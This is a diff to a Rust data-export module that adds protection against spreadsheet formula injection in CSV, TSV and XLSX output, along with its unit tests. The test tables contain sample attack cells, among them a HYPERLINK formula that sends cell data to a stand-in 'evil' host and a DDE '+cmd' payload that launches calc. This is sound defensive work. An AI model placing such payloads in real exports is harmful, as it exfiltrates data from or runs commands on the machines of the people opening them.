@@ -4,7 +4,14 @@
 //!
 //! Text formats show instants as `2026-10-15 23:59:59` (the contract's form) and nulls as empty
 //! (table, CSV) or `null` (JSON).
+//!
+//! Spreadsheet outputs (CSV, TSV, XLSX — here and the reports' own in `report::monthly`) pass every
+//! text cell through [`neutralise_cell`] or [`write_text_cell`]: a denial reason such as
+//! `=HYPERLINK(…)` read from an export must not become a formula in Excel or WPS (OWASP "CSV
+//! injection"). The table, JSON, JSONL and Parquet outputs are not spreadsheets and are written as
+//! the data is.
 
+use std::borrow::Cow;
 use std::io::Write;
 use std::path::Path;
 use std::sync::Arc;
@@ -87,6 +94,106 @@ pub fn textual(batch: &RecordBatch) -> Result<RecordBatch, ArrowError> {
     RecordBatch::try_new(Arc::new(Schema::new(fields)), cols)
 }
 
+/// What makes Excel or WPS take a cell for a formula: `= + - @` first (after any leading blanks);
+/// their full-width forms too (WPS's Chinese input turns them into formulas as typed; whether it
+/// does on opening a file is unsure, so they count).
+const FORMULA_STARTS: &[char] = &['=', '+', '-', '@', '＝', '＋', '－', '＠'];
+
+/// Invisible characters skipped like blanks before a formula character.
+const INVISIBLE: &[char] = &['\u{feff}', '\u{200b}', '\u{200c}', '\u{200d}', '\u{2060}'];
+
+/// Whether a text cell could be read as a formula: it starts with a tab or CR (OWASP), or with a
+/// formula character after any blanks — unless the whole cell is a plain decimal such as `-12.5`
+/// or `+3e5`, which is data (`+86 138 0013 8000` is not one).
+pub fn is_formula_like(s: &str) -> bool {
+    if s.starts_with(['\t', '\r']) {
+        return true;
+    }
+    let rest = s.trim_start_matches(|c: char| c.is_whitespace() || INVISIBLE.contains(&c));
+    rest.starts_with(FORMULA_STARTS) && !is_plain_number(s.trim())
+}
+
+/// An optional sign, digits with at most one point, an optional exponent; ASCII, nothing else.
+fn is_plain_number(s: &str) -> bool {
+    let b = s.as_bytes();
+    let mut i = usize::from(matches!(b.first(), Some(b'+' | b'-')));
+    let int = digits(b, &mut i);
+    let mut frac = 0;
+    if b.get(i) == Some(&b'.') {
+        i += 1;
+        frac = digits(b, &mut i);
+    }
+    if int + frac == 0 {
+        return false;
+    }
+    if matches!(b.get(i), Some(b'e' | b'E')) {
+        i += 1;
+        i += usize::from(matches!(b.get(i), Some(b'+' | b'-')));
+        if digits(b, &mut i) == 0 {
+            return false;
+        }
+    }
+    i == b.len()
+}
+
+/// Skips the ASCII digits at `i`, saying how many there were.
+fn digits(b: &[u8], i: &mut usize) -> usize {
+    let start = *i;
+    while b.get(*i).is_some_and(u8::is_ascii_digit) {
+        *i += 1;
+    }
+    *i - start
+}
+
+/// A text cell as a CSV or TSV holds it: with `'` in front when it could be read as a formula
+/// (OWASP's advice; the spreadsheet then shows it as text), otherwise as it is. The one rule
+/// every CSV/TSV writer of the project applies.
+pub fn neutralise_cell(s: &str) -> Cow<'_, str> {
+    if is_formula_like(s) { Cow::Owned(format!("'{s}")) } else { Cow::Borrowed(s) }
+}
+
+/// Writes a text cell to an XLSX sheet; the one way every XLSX writer of the project writes text.
+/// A string cell is never evaluated, but one that looks like a formula becomes one when a person
+/// edits it, so such a cell gets the quote-prefix format (Excel's own `'`): it shows as written,
+/// without an apostrophe, and stays text when edited.
+pub fn write_text_cell(ws: &mut rust_xlsxwriter::Worksheet, row: u32, col: u16, s: &str, format: Option<&rust_xlsxwriter::Format>) -> Result<(), rust_xlsxwriter::XlsxError> {
+    match format {
+        _ if is_formula_like(s) => ws.write_string_with_format(row, col, s, &format.cloned().unwrap_or_default().set_quote_prefix()),
+        Some(f) => ws.write_string_with_format(row, col, s, f),
+        None => ws.write_string(row, col, s),
+    }?;
+    Ok(())
+}
+
+/// A batch as a CSV/TSV writes it: column names and text cells through [`neutralise_cell`];
+/// numbers, booleans and binary as they are (numbers stay numbers).
+fn neutralised(batch: &RecordBatch) -> Result<RecordBatch, ArrowError> {
+    use datafusion::arrow::array::{AsArray, StringArray};
+    let opts = CastOptions { safe: false, format_options: format_options() };
+    let mut fields = Vec::new();
+    let mut cols: Vec<ArrayRef> = Vec::new();
+    for (f, c) in batch.schema().fields().iter().zip(batch.columns()) {
+        let dt = f.data_type();
+        let as_is = dt.is_numeric()
+            || matches!(dt, DataType::Boolean | DataType::Null | DataType::Binary | DataType::LargeBinary | DataType::BinaryView | DataType::FixedSizeBinary(_))
+            || !datafusion::arrow::compute::can_cast_types(dt, &DataType::Utf8);
+        let col = if as_is {
+            Arc::clone(c)
+        } else {
+            let text = if dt == &DataType::Utf8 { Arc::clone(c) } else { cast_with_options(c, &DataType::Utf8, &opts)? };
+            let s = text.as_string::<i32>();
+            if s.iter().flatten().any(is_formula_like) {
+                Arc::new(s.iter().map(|v| v.map(neutralise_cell)).collect::<StringArray>())
+            } else {
+                text
+            }
+        };
+        fields.push(f.as_ref().clone().with_name(neutralise_cell(f.name())).with_data_type(col.data_type().clone()));
+        cols.push(col);
+    }
+    RecordBatch::try_new(Arc::new(Schema::new(fields)), cols)
+}
+
 /// Prints batches in a text format.
 pub fn print_batches(out: &mut dyn Write, schema: &SchemaRef, batches: &[RecordBatch], format: PrintFormat) -> Result<(), OutputError> {
     let text: Vec<RecordBatch> = batches.iter().map(textual).collect::<Result<_, _>>()?;
@@ -108,10 +215,10 @@ pub fn print_batches(out: &mut dyn Write, schema: &SchemaRef, batches: &[RecordB
             let delim = if format == PrintFormat::Csv { b',' } else { b'\t' };
             let mut w = datafusion::arrow::csv::WriterBuilder::new().with_header(true).with_delimiter(delim).build(&mut *out);
             if text.is_empty() {
-                w.write(&RecordBatch::new_empty(text_schema))?;
+                w.write(&neutralised(&RecordBatch::new_empty(text_schema))?)?;
             }
             for b in &text {
-                w.write(b)?;
+                w.write(&neutralised(b)?)?;
             }
         }
         PrintFormat::Jsonl => {
@@ -210,7 +317,7 @@ pub fn add_sheet_rows(sheet: &mut rust_xlsxwriter::Worksheet, schema: &SchemaRef
     for (j, f) in schema.fields().iter().enumerate() {
         let h = headers.and_then(|h| h.get(j)).cloned().unwrap_or_else(|| f.name().clone());
         widths.push(text_width(&h));
-        sheet.write_with_format(0, j as u16, &h, &bold)?;
+        write_text_cell(sheet, 0, j as u16, &h, Some(&bold))?;
     }
     sheet.set_freeze_panes(1, 0)?;
     let mut row = 1u32;
@@ -234,7 +341,7 @@ pub fn add_sheet_rows(sheet: &mut rust_xlsxwriter::Worksheet, schema: &SchemaRef
                     }
                     DataType::Boolean => {
                         let v = c.as_boolean().value(i);
-                        sheet.write_string(row, col, if v { "是" } else { "否" })?;
+                        write_text_cell(sheet, row, col, if v { "是" } else { "否" }, None)?;
                     }
                     DataType::Timestamp(_, _) => {
                         let s = text.column(j).as_string::<i32>().value(i).to_string();
@@ -243,7 +350,7 @@ pub fn add_sheet_rows(sheet: &mut rust_xlsxwriter::Worksheet, schema: &SchemaRef
                                 sheet.write_datetime_with_format(row, col, t, &date_fmt)?;
                             }
                             Err(_) => {
-                                sheet.write_string(row, col, &s)?;
+                                write_text_cell(sheet, row, col, &s, None)?;
                             }
                         }
                         widths[j] = widths[j].max(19);
@@ -255,7 +362,7 @@ pub fn add_sheet_rows(sheet: &mut rust_xlsxwriter::Worksheet, schema: &SchemaRef
                             _ => datafusion::arrow::util::display::array_value_to_string(tc, i)?,
                         };
                         widths[j] = widths[j].max(text_width(&s).min(60));
-                        sheet.write_string(row, col, &s)?;
+                        write_text_cell(sheet, row, col, &s, None)?;
                     }
                 }
             }
@@ -316,6 +423,106 @@ mod tests {
         )
         .unwrap();
         (schema, b)
+    }
+
+    #[test]
+    fn cells_that_could_be_formulas_are_neutralised_and_nothing_else() {
+        let table: &[(&str, &str)] = &[
+            ("=HYPERLINK(\"http://evil/?\"&B2,\"详情\")", "'=HYPERLINK(\"http://evil/?\"&B2,\"详情\")"),
+            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+            ("-2+3", "'-2+3"),
+            ("@SUM(1+1)", "'@SUM(1+1)"),
+            ("\t=1", "'\t=1"),
+            ("\tplain", "'\tplain"),
+            ("\r\nx", "'\r\nx"),
+            (" =1+1", "' =1+1"),
+            ("\u{3000}@x", "'\u{3000}@x"),
+            ("\u{feff}=1", "'\u{feff}=1"),
+            ("＝1+1", "'＝1+1"),
+            ("＋86", "'＋86"),
+            ("－1", "'－1"),
+            ("＠SUM(A1)", "'＠SUM(A1)"),
+            ("+86 138 0013 8000", "'+86 138 0013 8000"),
+            ("-", "'-"),
+            ("-1e", "'-1e"),
+            ("-.", "'-."),
+            ("-inf", "'-inf"),
+            ("-12.5", "-12.5"),
+            ("+86", "+86"),
+            ("1e5", "1e5"),
+            ("-1.2E-3", "-1.2E-3"),
+            ("-.5", "-.5"),
+            (" -12.5 ", " -12.5 "),
+            ("", ""),
+            ("   ", "   "),
+            ("a=b", "a=b"),
+            ("材料不符=退回", "材料不符=退回"),
+            ("王局", "王局"),
+            ("'=already", "'=already"),
+            ("2026-10-15 23:59:59", "2026-10-15 23:59:59"),
+        ];
+        for (input, want) in table {
+            assert_eq!(neutralise_cell(input), *want, "{input:?}");
+            assert_eq!(is_formula_like(input), input != want, "{input:?}");
+        }
+        assert!(matches!(neutralise_cell("王局"), Cow::Borrowed(_)), "safe cells are not copied");
+    }
+
+    #[test]
+    fn csv_and_tsv_neutralise_text_cells_and_names_but_keep_numbers() {
+        use datafusion::arrow::array::{Float64Array, Int64Array, StringViewArray};
+        let schema = Arc::new(Schema::new(vec![
+            Field::new("reason", DataType::Utf8, true),
+            Field::new("approver", DataType::Utf8View, true),
+            Field::new("=n", DataType::Int64, true),
+            Field::new("x", DataType::Float64, true),
+        ]));
+        let b = RecordBatch::try_new(
+            schema.clone(),
+            vec![
+                Arc::new(StringArray::from(vec![Some("=1+1"), Some("-12.5"), None])),
+                Arc::new(StringViewArray::from(vec![Some("@SUM(1+1)"), Some("王局"), Some("\tx")])),
+                Arc::new(Int64Array::from(vec![Some(-3), None, Some(4)])),
+                Arc::new(Float64Array::from(vec![Some(-1.5), Some(2.0), None])),
+            ],
+        )
+        .unwrap();
+        let mut out = Vec::new();
+        print_batches(&mut out, &schema, std::slice::from_ref(&b), PrintFormat::Csv).unwrap();
+        assert_eq!(String::from_utf8(out).unwrap(), "reason,approver,'=n,x\n'=1+1,'@SUM(1+1),-3,-1.5\n-12.5,王局,,2.0\n,'\tx,4,\n");
+        let mut out = Vec::new();
+        print_batches(&mut out, &schema, std::slice::from_ref(&b), PrintFormat::Tsv).unwrap();
+        assert!(String::from_utf8(out).unwrap().starts_with("reason\tapprover\t'=n\tx\n'=1+1\t'@SUM(1+1)\t-3\t-1.5\n"));
+        // JSON is not a spreadsheet: written as the data is.
+        let mut out = Vec::new();
+        print_batches(&mut out, &schema, &[b], PrintFormat::Jsonl).unwrap();
+        assert!(String::from_utf8(out).unwrap().starts_with("{\"reason\":\"=1+1\",\"approver\":\"@SUM(1+1)\",\"=n\":-3"));
+    }
+
+    #[test]
+    fn xlsx_text_that_could_be_a_formula_is_a_quote_prefixed_string_never_a_formula() {
+        let schema = Arc::new(Schema::new(vec![Field::new("reason", DataType::Utf8, true), Field::new("n", DataType::Int64, true)]));
+        let b = RecordBatch::try_new(
+            schema.clone(),
+            vec![
+                Arc::new(StringArray::from(vec![Some("=HYPERLINK(\"http://evil/\",\"详情\")"), Some("王局")])),
+                Arc::new(datafusion::arrow::array::Int64Array::from(vec![Some(-3), Some(5)])),
+            ],
+        )
+        .unwrap();
+        let dir = tempfile::tempdir().unwrap();
+        let p = dir.path().join("x.xlsx");
+        write_file(&p, &schema, &[b], PrintFormat::Xlsx).unwrap();
+        use calamine::Reader;
+        let mut book = calamine::open_workbook_auto(&p).unwrap();
+        let r = book.worksheet_range("Sheet1").unwrap();
+        assert_eq!(r.get((1, 0)), Some(&calamine::Data::String("=HYPERLINK(\"http://evil/\",\"详情\")".into())), "shown as written");
+        assert_eq!(r.get((1, 1)), Some(&calamine::Data::Float(-3.0)), "numbers stay numbers");
+        assert!(book.worksheet_formula("Sheet1").unwrap().used_cells().next().is_none());
+        let mut archive = zip::ZipArchive::new(std::fs::File::open(&p).unwrap()).unwrap();
+        let mut styles = String::new();
+        std::io::Read::read_to_string(&mut archive.by_name("xl/styles.xml").unwrap(), &mut styles).unwrap();
+        assert_eq!(styles.matches("quotePrefix=\"1\"").count(), 1, "{styles}");
     }
 
     #[test]
